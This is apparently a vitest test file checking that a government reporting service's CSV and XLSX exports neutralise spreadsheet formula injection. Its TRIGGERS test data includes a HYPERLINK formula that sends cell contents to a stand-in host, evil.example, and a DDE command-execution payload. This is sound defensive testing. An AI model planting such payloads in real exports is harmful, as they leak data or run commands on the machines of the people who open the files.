/**
 * CSV injection (issue 8 point 2): text a unit writes must never reach the office's spreadsheet as
 * a live formula. Every exported CSV goes through src/http/exports.ts, which prefixes a cell that
 * starts with = + - @, tab or CR (also after leading white space) with ' (OWASP). XLSX cells are
 * typed strings, so they keep the text as written. Also the metrics column (point 15) and the
 * roster's 已登记联络员 column (point 19).
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { beforeAll, describe, expect, it } from 'vitest';
import { neutralise } from '../src/http/exports.js';
import { XLSX_HEADER_ROW } from '../src/http/print-sheet.js';
import { testClock } from './helpers/clock.js';
import { useTestApp } from './helpers/test-app.js';
import { bearer } from './helpers/tokens.js';

const clock = testClock('2017-10-09T10:00:00+08:00');
const ctx = useTestApp({ clock });

const PERIOD = '/v1/plans/hazchem-2017/periods/2017Q3';
const REPORT = `${PERIOD}/reports/work-safety`;

/** Formula triggers as an attacker would send them; the text schema trims the leading white space. */
const TRIGGERS = [
  { sent: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', stored: '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")' },
  { sent: "+1+cmd|' /C calc'!A0", stored: "+1+cmd|' /C calc'!A0" },
  { sent: '-2+3', stored: '-2+3' },
  { sent: '@SUM(1)', stored: '@SUM(1)' },
  { sent: '\t=1+1', stored: '=1+1' },
  { sent: '\r=1+2', stored: '=1+2' },
  { sent: '\u00a0=1+3', stored: '=1+3' },
  { sent: '\u3000=1+4', stored: '=1+4' },
];

type Headers = Record<string, string>;
let office: Headers;
let dept: Headers;

interface CarriedTask {
  measureNo: number;
  taskSeq: number;
  required: boolean;
}

/** Each required row carries one trigger in summary, problems and nextSteps, and one in a metric name. */
let entries: { measureNo: number; taskSeq: number; summary: string }[] = [];
const triggerOf = (index: number) => TRIGGERS[index % TRIGGERS.length]!;

async function download(url: string) {
  const response = await ctx.app.inject({ method: 'GET', url, headers: office });
  expect(response.statusCode, response.body).toBe(200);
  return response;
}

const csvRows = async (url: string): Promise<Record<string, string>[]> => parse((await download(url)).body, { columns: true, bom: true });

async function workbook(url: string) {
  const book = new ExcelJS.Workbook();
  await book.xlsx.load((await download(url)).rawPayload as unknown as ArrayBuffer);
  return book;
}

/** No cell of a parsed CSV could start a formula: it starts with ' or with no trigger at all. */
function expectNoLiveFormula(rows: Record<string, string>[]) {
  for (const row of rows) {
    for (const [column, value] of Object.entries(row)) {
      if (value.startsWith("'")) continue;
      expect(value, `${column} = ${JSON.stringify(value)}`).not.toMatch(/^(?:[\t\r]|\s*[=+\-@])/);
    }
  }
}

beforeAll(async () => {
  office = await bearer(ctx.app, 'office');
  dept = await bearer(ctx.app, 'department', 'work-safety');
  const tasks: CarriedTask[] = (await ctx.app.inject({ method: 'GET', url: REPORT, headers: dept })).json().tasks;
  const required = tasks.filter((task) => task.required);
  expect(required.length).toBeGreaterThanOrEqual(TRIGGERS.length);
  const body = {
    entries: required.map((task, index) => ({
      measureNo: task.measureNo,
      taskSeq: task.taskSeq,
      status: 'in_progress',
      progress: 40,
      summary: triggerOf(index).sent,
      problems: triggerOf(index + 1).sent,
      nextSteps: triggerOf(index + 2).sent,
      metrics:
        index === 0
          ? [
              { name: '专业监管人员占比', value: 72, unit: '%' },
              { name: '专项检查', value: 15, unit: '次' },
            ]
          : [{ name: triggerOf(index + 3).sent, value: -5, unit: '' }],
    })),
  };
  entries = body.entries;
  const saved = await ctx.app.inject({ method: 'PUT', url: REPORT, headers: dept, payload: body });
  expect(saved.statusCode, saved.body).toBe(200);
  const submitted = await ctx.app.inject({ method: 'POST', url: `${REPORT}/submit`, headers: dept });
  expect(submitted.statusCode, submitted.body).toBe(200);

  const liaisons = await ctx.app.inject({
    method: 'PUT',
    url: '/v1/departments/work-safety/liaisons',
    headers: dept,
    payload: {
      officer: { name: TRIGGERS[0]!.sent.slice(0, 50), position: TRIGGERS[1]!.sent, phone: '+86 21 23111111', email: 'zhang.wei@example.gov.cn' },
      staff: { name: '\u3000@李娜', phone: '-23111112', email: 'li.na@example.gov.cn' },
    },
  });
  expect(liaisons.statusCode, liaisons.body).toBe(200);
});

describe('the neutraliser every CSV goes through', () => {
  it.each(['=1+1', '+1', '-1', '@A1', '\t1', '\r1', ' =1+1', '\t=1+1', '\u00a0=1+1', '\u3000=1+1', '\n-1'])(
    'when a text cell is %j, it gets a leading apostrophe',
    (value) => {
      expect(neutralise(value)).toBe(`'${value}`);
    },
  );

  it.each(['市安全监管局', '2017-10-13T17:00:00+08:00', 'a=b', '1+1', '', "'=already quoted"])('when a text cell is %j, it is left alone', (value) => {
    expect(neutralise(value)).toBe(value);
  });

  it('when a cell is a number (progress, counts), it stays a number, negative ones included', () => {
    expect(neutralise(60)).toBe(60);
    expect(neutralise(-5)).toBe(-5);
    expect(neutralise(null)).toBeNull();
  });
});

describe('consolidated.csv', () => {
  let rows: Record<string, string>[];
  const ours = () => rows.filter((row) => row['单位代码'] === 'work-safety' && row['工作进展'] !== '');

  beforeAll(async () => {
    rows = await csvRows(`${PERIOD}/consolidated.csv`);
  });

  it('when entries start with a formula trigger, no cell of the CSV is a live formula', () => {
    expect(ours()).toHaveLength(entries.length);
    expectNoLiveFormula(rows);
  });

  it.each(TRIGGERS.map((trigger, index) => ({ ...trigger, index })))(
    'when a summary, problems and nextSteps are sent as $sent, each cell reads as text: an apostrophe and the stored text',
    ({ stored, index }) => {
      // Trigger i is entry i's summary, entry i-1's problems and entry i-2's nextSteps (see beforeAll).
      const row = (offset: number) => {
        const entry = entries[(index - offset + TRIGGERS.length) % TRIGGERS.length]!;
        return ours().find((candidate) => candidate['措施序号'] === String(entry.measureNo) && candidate['任务序号'] === String(entry.taskSeq))!;
      };
      expect([row(0)['工作进展'], row(1)['存在问题'], row(2)['下步计划']]).toEqual([`'${stored}`, `'${stored}`, `'${stored}`]);
    },
  );

  it('when an entry has metrics, they are exported in 指标 as "name: value unit; …"', () => {
    const first = ours().find((row) => `${row['措施序号']}-${row['任务序号']}` === `${entries[0]!.measureNo}-${entries[0]!.taskSeq}`)!;
    expect(first['指标']).toBe('专业监管人员占比: 72%; 专项检查: 15次');
  });

  it('when a metric name starts with a trigger, the 指标 cell is neutralised too', () => {
    const second = ours().find((row) => `${row['措施序号']}-${row['任务序号']}` === `${entries[1]!.measureNo}-${entries[1]!.taskSeq}`)!;
    expect(second['指标']).toBe(`'${triggerOf(4).stored}: -5`);
  });

  it('when the service writes numbers (进度), they stay plain numbers', () => {
    for (const row of ours()) expect(row['进度(%)']).toBe('40');
  });
});

describe('consolidated.xlsx', () => {
  it('when entries start with a formula trigger, the cells are typed strings holding the text as stored, and numbers stay numbers', async () => {
    const book = await workbook(`${PERIOD}/consolidated.xlsx`);
    let checked = 0;
    for (const sheet of book.worksheets) {
      const header = (sheet.getRow(XLSX_HEADER_ROW).values as unknown[]).map(String);
      const column = (name: string) => header.indexOf(name);
      if (column('工作进展') < 0) continue;
      sheet.eachRow((row, number) => {
        if (number <= XLSX_HEADER_ROW || row.getCell(column('单位代码')).value !== 'work-safety') return;
        const summary = row.getCell(column('工作进展'));
        if (summary.value === null) return;
        expect(summary.type).toBe(ExcelJS.ValueType.String);
        expect(TRIGGERS.map((trigger) => trigger.stored)).toContain(summary.value);
        expect(row.getCell(column('指标')).type).toBe(ExcelJS.ValueType.String);
        expect(row.getCell(column('进度(%)')).type).toBe(ExcelJS.ValueType.Number);
        checked += 1;
      });
    }
    expect(checked).toBe(entries.length);
  });

  it('when an entry has metrics, the category sheet shows them in 指标', async () => {
    const book = await workbook(`${PERIOD}/consolidated.xlsx`);
    const values = book.worksheets.flatMap((sheet) => {
      const index = (sheet.getRow(XLSX_HEADER_ROW).values as unknown[]).indexOf('指标');
      return index < 0 ? [] : sheet.getColumn(index).values;
    });
    expect(values).toContain('专业监管人员占比: 72%; 专项检查: 15次');
  });
});

describe('/v1/liaisons.csv and .xlsx', () => {
  it('when names, positions and phones start with a formula trigger, the CSV has no live formula', async () => {
    const rows = await csvRows('/v1/liaisons.csv');
    expectNoLiveFormula(rows);
    const ours = rows.find((row) => row['单位代码'] === 'work-safety')!;
    expect(ours).toMatchObject({
      处级联络员: `'${TRIGGERS[0]!.stored.slice(0, 50)}`,
      职务: `'${TRIGGERS[1]!.stored}`,
      联络员电话: "'+86 21 23111111",
      工作人员: "'@李娜",
      工作人员电话: "'-23111112",
    });
  });

  it.each(TRIGGERS.map((trigger) => trigger))('when an officer position is sent as $sent, the CSV cell is an apostrophe and the stored text', async ({ sent, stored }) => {
    const put = await ctx.app.inject({
      method: 'PUT',
      url: '/v1/departments/finance/liaisons',
      headers: office,
      payload: {
        officer: { name: '王芳', position: sent, phone: '021-23111113', email: 'wang.fang@example.gov.cn' },
        staff: { name: sent, phone: '021-23111114', email: 'zhao.lei@example.gov.cn' },
      },
    });
    expect(put.statusCode, put.body).toBe(200);
    const row = (await csvRows('/v1/liaisons.csv')).find((candidate) => candidate['单位代码'] === 'finance')!;
    expect([row['职务'], row['工作人员']]).toEqual([`'${stored}`, `'${stored}`]);
  });

  it('the column that says whether a unit named its liaisons reads 已登记联络员, in CSV and XLSX', async () => {
    const rows = await csvRows('/v1/liaisons.csv');
    expect(Object.keys(rows[0]!)).toContain('已登记联络员');
    expect(Object.keys(rows[0]!)).not.toContain('是否已报送');
    expect(rows.find((row) => row['单位代码'] === 'work-safety')!['已登记联络员']).toBe('是');
    const sheet = (await workbook('/v1/liaisons.xlsx')).worksheets[0]!;
    const header = (sheet.getRow(XLSX_HEADER_ROW).values as unknown[]).slice(1);
    expect(header).toContain('已登记联络员');
    expect(header).not.toContain('是否已报送');
  });

  it('when liaison text starts with a trigger, the XLSX cells are typed strings holding it as stored', async () => {
    const sheet = (await workbook('/v1/liaisons.xlsx')).worksheets[0]!;
    const header = (sheet.getRow(XLSX_HEADER_ROW).values as unknown[]).map(String);
    let found = 0;
    sheet.eachRow((row) => {
      if (row.getCell(header.indexOf('单位代码')).value !== 'work-safety') return;
      const name = row.getCell(header.indexOf('处级联络员'));
      expect(name.type).toBe(ExcelJS.ValueType.String);
      expect(name.value).toBe(TRIGGERS[0]!.stored.slice(0, 50));
      expect(row.getCell(header.indexOf('工作人员电话')).value).toBe('-23111112');
      found += 1;
    });
    expect(found).toBe(1);
  });
});
